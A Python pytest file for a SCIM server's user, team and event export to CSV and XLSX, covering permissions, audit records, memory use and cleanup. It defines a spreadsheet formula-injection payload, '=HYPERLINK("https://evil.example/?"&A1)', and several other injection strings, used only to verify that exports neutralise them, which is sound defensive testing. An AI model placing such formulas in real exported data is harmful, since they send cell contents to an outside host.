"""What is taken out is what there is, nothing of it runs, it takes no memory, and it is written down who took it."""

import csv
import io
import re
import tempfile
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from openpyxl import load_workbook

from scim_server.db import Database
from scim_server.models import Outcome, UserStatus, Way
from scim_server.services import export_files, exports, grants, handmade_teams, lifecycle, sign_ins, users
from scim_server.services.context import Context
from scim_server.services.errors import NotAllowed
from scim_server.services.events import Action
from scim_server.services.export_files import FileFormat, Row, as_csv, as_xlsx
from scim_server.services.exports import EventFilter, Export, What
from scim_server.services.handmade_teams import Part
from scim_server.services.lookup import Wanted
from scim_server.services.spreadsheet_cells import original_cell
from tests.clients import Directory
from tests.hands import Hands
from tests.promises.databases import contents, events, statements

ATTACK = '=HYPERLINK("https://evil.example/?"&A1)'


def table(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def taken(office: Hands, export: Export) -> bytes:
    with office.acting() as ctx:
        exports.begin_export(ctx, export)
    return b"".join(exports.exported(office.acting, export))


def as_table(office: Hands, what: What, **filters: Any) -> list[dict[str, str]]:
    return table(taken(office, Export(what, FileFormat.CSV, **filters)))


def sheet(content: bytes) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(content))
    return [tuple(cell.value for cell in row) for each in book.worksheets for row in each.iter_rows()]


def test_every_user_is_a_row_with_what_is_known_of_them(acme: Directory, office: Hands, rivals: Hands) -> None:
    boss = office.create("boss")
    acme.create_user(
        "ada",
        displayName="Ada",
        name={"givenName": "Ada", "familyName": "Lovelace"},
        emails=[{"value": "a@example.com"}, {"value": "ada@example.com", "primary": True}],
        phoneNumbers=[
            {"value": "+442079460000", "type": "work"},
            {"value": "+447700900000", "type": "mobile"},
            {"value": "+442079460001", "type": "fax"},
        ],
        title="Countess",
        **{
            "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {
                "department": "Engines",
                "manager": {"value": str(boss)},
            }
        },
    )
    rivals.create("gina")
    with office.acting() as ctx:
        ada = users.find_user(ctx, "ada", "ada")
        for name in ("Watch", "Desk; =1+1"):
            handmade_teams.add_mates(ctx, handmade_teams.create_team(ctx, name), [ada.id])
        trace = sign_ins.Trace(Way.PASSWORD)
        sign_ins.record_sign_in(ctx, Outcome.SIGNED_IN, trace, user=ada)
        signed_in = ctx.now

    [first, second] = as_table(office, What.USERS)

    assert (first["user_name"], first["owner"], first["sign_ins_in_30_days"]) == ("boss", "false", "0")
    assert (first["origin"], first["directory"], first["last_sign_in_at"]) == ("hand", "", "")
    said = {name: value for name, value in second.items() if value}
    assert UUID(said.pop("id")) == ada.id
    assert said.pop("created_at") == said.pop("updated_at") == ada.created_at.isoformat(timespec="seconds")[:19] + "Z"
    assert said.pop("last_sign_in_at") == signed_in.isoformat(timespec="seconds")[:19] + "Z"
    assert original_cell(said.pop("teams")) == "Watch; Desk; =1+1"
    assert said == {
        "user_name": "ada",
        "email": "ada@example.com",
        "other_emails": "a@example.com",
        "display_name": "Ada",
        "status": "active",
        "role": "Agent",
        "owner": "false",
        "origin": "scim",
        "directory": "generic",
        "sign_ins_in_30_days": "1",
        "given_name": "Ada",
        "family_name": "Lovelace",
        "phone": "+442079460000",
        "mobile": "+447700900000",
        "other_phones": "+442079460001",
        "title": "Countess",
        "department": "Engines",
        "manager": "boss",
        "availability": "available",
    }


def test_a_spreadsheet_has_the_same_with_times_and_texts_that_are_texts(office: Hands) -> None:
    office.create("ada", title=ATTACK, nickName="<r><x/></r>", locale="en")

    [header, row] = sheet(taken(office, Export(What.USERS, FileFormat.XLSX)))

    said = dict(zip(header, row, strict=True))
    assert (said["user_name"], said["owner"], said["sign_ins_in_30_days"]) == ("ada", False, 0)
    assert abs(said["created_at"] - office.user(said["id"]).created_at.replace(tzinfo=None)) < timedelta(seconds=1)
    assert said["title"] == ATTACK
    assert said["familiar_name"] == " <r><x/></r>"


def test_only_those_who_are_asked_for_are_in_it(office: Hands) -> None:
    office.create("ada", emails=[{"value": "countess@example.com"}])
    bob = office.create("bob", role="Viewer")
    eve = office.create("eve", status=UserStatus.DEACTIVATED)
    gone = office.create("gone")
    with office.acting() as ctx:
        lifecycle.delete_user(ctx, users.get_user_to_change(ctx, gone))
    with office.acting() as ctx:
        watch = handmade_teams.create_team(ctx, "Watch")
        handmade_teams.add_mates(ctx, watch, [bob, eve])
        role = users.get_user(ctx, bob).role_id
        team = watch.id

    def names(**wanted: Any) -> list[str]:
        return [each["user_name"] for each in as_table(office, What.USERS, users=Wanted(**wanted))]

    assert names() == ["ada", "bob", "eve"]
    assert names(statuses=(UserStatus.DELETED,)) == ["gone"]
    assert names(statuses=(UserStatus.DEACTIVATED,)) == ["eve"]
    assert names(text="COUNTESS@") == ["ada"]
    assert names(text="%") == []
    assert names(role=role) == ["bob"]
    assert names(team=team) == ["bob", "eve"]
    assert names(team=team, statuses=(UserStatus.ACTIVE,)) == ["bob"]


def test_every_member_of_a_team_is_a_row_and_so_is_an_empty_team(
    acme: Directory, office: Hands, rivals: Hands, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "_PORTION", 2)
    people = [office.create(f"p{number}") for number in range(5)]
    crew = acme.create_group("Crew", acme.create_user("doug"))
    with office.acting() as ctx:
        watch = handmade_teams.create_team(ctx, "Watch", description="At night")
        handmade_teams.add_mates(ctx, watch, people)
        handmade_teams.add_mates(ctx, watch, people[:1], part=Part.SUPERVISOR)
        handmade_teams.create_team(ctx, "Nobody's")
        handmade_teams.create_team(ctx, "@all")
    with rivals.acting() as ctx:
        handmade_teams.create_team(ctx, "Theirs")

    rows = as_table(office, What.TEAMS)

    found = sorted((row["team"], row["user_name"], row["part"], row["by"]) for row in rows)
    assert found == sorted(
        [
            ("Crew", "doug", "user", "directory"),
            *[("Watch", f"p{number}", "supervisor" if number == 0 else "user", "hand") for number in range(5)],
            ("Nobody's", "", "", ""),
            ("'@all", "", "", ""),
        ]
    )
    [of_crew] = [row for row in rows if row["team"] == "Crew"]
    assert (of_crew["team_id"], of_crew["directory"], of_crew["main"]) == (crew.id, "generic", "false")
    assert {row["description"] for row in rows if row["team"] == "Watch"} == {"At night"}


def test_events_are_taken_out_by_time_and_action(office: Hands, rivals: Hands, database: Database) -> None:
    office.create("ada", title=ATTACK)
    rivals.create("gina")
    with office.acting(later=timedelta(days=2)) as ctx:
        lifecycle.deactivate_user(ctx, users.find_user(ctx, "ada", "ada"))
        later = ctx.now

    rows = as_table(office, What.EVENTS)
    assert [row["action"] for row in rows] == [each.action for each in events(database, "acme")]
    assert rows[-1]["action"] == "export.made"
    [created] = as_table(office, What.EVENTS, events=EventFilter(action=Action.USER_CREATED))
    assert '"userName":[null,"ada"]' in created["changes"]
    assert (created["actor_kind"], created["target_kind"]) == ("operator", "user")

    def between(**wanted: Any) -> set[str]:
        return {row["action"] for row in as_table(office, What.EVENTS, events=EventFilter(**wanted))}

    assert "user.created" in between(until=later)
    assert "user.deactivated" not in between(until=later)
    assert between(since=datetime(1970, 1, 1, tzinfo=UTC)) >= {"user.created", "user.deactivated"}


def test_it_is_written_down_who_takes_what_out_before_it_leaves(office: Hands, database: Database) -> None:
    ada = office.create("ada", role="Admin")
    export = Export(What.USERS, FileFormat.XLSX, users=Wanted((UserStatus.ACTIVE,), "ad"))

    with office.acting(ada) as ctx:
        exports.begin_export(ctx, export)

    told = events(database, "acme")[-1]
    assert (told.action, told.actor_id, told.target_kind, told.target_id) == ("export.made", ada, "export", export.id)
    assert told.details == {
        "what": "users",
        "format": "xlsx",
        "count": 1,
        "filter": {"statuses": "active", "text": "ad"},
    }


@pytest.mark.parametrize("what", What)
def test_whoever_takes_data_out_may_see_it_and_may_take_it_out(office: Hands, database: Database, what: What) -> None:
    vera, ada = office.create("vera", role="Viewer"), office.create("ada")
    with office.acting() as ctx:
        for name in (vera, ada):
            user = users.get_user_to_change(ctx, name)
            if name == ada:
                grants.grant(ctx, user, "data.export")
                for seen in ("users.view", "teams.view"):
                    grants.revoke(ctx, user, seen)
    before = contents(database)

    for actor, missing in ((vera, "data.export"), (ada, exports.VIEWING[what])):
        with pytest.raises(NotAllowed, match=missing), office.acting(actor) as ctx:
            exports.begin_export(ctx, Export(what, FileFormat.CSV))
    assert contents(database) == before


def test_a_portion_more_costs_as_many_statements_as_the_one_before(
    office: Hands, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(6):
        office.create(f"p{number}")
    monkeypatch.setattr(exports, "_PORTION", 2)

    with statements(database) as sent:
        rows = as_table(office, What.USERS)

    assert [row["user_name"] for row in rows] == [f"p{number}" for number in range(6)]
    reads = [each for each in sent if "FROM users" in each and "LIMIT" in each]
    assert len(reads) == 4
    assert all("users.org_id = " in each for each in reads)


def test_no_transaction_is_open_while_somebody_reads(office: Hands) -> None:
    for number in range(3):
        office.create(f"p{number}")
    open_now = 0

    @contextmanager
    def opened() -> Iterator[Context]:
        nonlocal open_now
        open_now += 1
        with office.acting() as ctx:
            yield ctx
        open_now -= 1

    for format in FileFormat:
        for piece in exports.exported(opened, Export(What.USERS, format)):
            assert piece
            assert open_now == 0


# Files


@pytest.mark.parametrize(
    "text",
    [ATTACK, "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1", "http://evil.example", "mailto:x@y.example", "{=1}", "<r>x</r>"],  # noqa: RUF001
)
def test_no_text_is_a_formula_a_link_or_markup_in_a_spreadsheet(text: str) -> None:
    content = b"".join(as_xlsx("Users", [text], [[text]]))

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        markup = "".join(archive.read(name).decode() for name in archive.namelist() if "sheet" in name)
        assert archive.testzip() is None
    assert not re.search(r"<f[ >]|<hyperlink|<r>", markup)
    cell = load_workbook(io.BytesIO(content)).worksheets[0].cell(2, 1)
    assert str(cell.value).strip() == text.strip()
    assert cell.data_type in ("s", "inlineStr")
    quoted = text[0] in "=+-@\t＝"  # noqa: RUF001
    assert bool(cell.style and cell.quotePrefix) is quoted


def test_csv_is_what_the_rfc_says_and_excel_reads() -> None:
    content = b"".join(as_csv(["name", "n"], [['a "b", c', 1], ["Zoë\nÅ", None], [ATTACK, True]]))

    assert content.startswith(b"\xef\xbb\xbfname,n\r\n")
    assert content.endswith(b",true\r\n")
    rows = table(content)
    assert [row["name"] for row in rows] == ['a "b", c', "Zoë\nÅ", f"'{ATTACK}"]
    assert b'"a ""b"", c",1\r\n' in content


def test_what_no_cell_holds_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_files, "MOST_ROWS", 3)
    long = "😀" * 20_000

    rows = sheet(b"".join(as_xlsx("Users", ["text"], [[long], ["b\x01\ufffe"], ["c"], ["d"], ["e"]])))

    assert [row[0] for row in rows[2:]] == ["b_x0001__xFFFE_", "text", "c", "d", "text", "e"]
    assert rows[1][0].endswith("(cut: the CSV file has all of it)")
    assert len(rows[1][0].encode("utf-16-le")) // 2 <= export_files.MOST_CHARACTERS


@pytest.mark.parametrize("format", FileFormat)
def test_nothing_is_left_of_a_file_that_nobody_reads_to_its_end(
    format: FileFormat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    rows = ([f"{number} {'x' * 500}"] for number in range(5_000))

    pieces = export_files.written(format, "Users", ["name"], rows)
    next(pieces)
    assert list(tmp_path.iterdir()) == []
    pieces.close()  # type: ignore[attr-defined]
    assert list(tmp_path.iterdir()) == []


def test_nothing_is_left_of_a_file_that_could_not_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[list[str]]:
        yield ["one"]
        raise ConnectionError

    with pytest.raises(ConnectionError):
        list(as_xlsx("Users", ["name"], rows()))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("format", FileFormat)
def test_memory_does_not_grow_with_the_table(format: FileFormat) -> None:
    def peak(count: int) -> int:
        rows: Iterator[Row] = ([f"{number} {'x' * 200}", number] for number in range(count))
        tracemalloc.start()
        for _ in export_files.written(format, "Users", ["name", "n"], rows):
            pass
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)
    assert peak(8_000) < peak(2_000) + 300_000
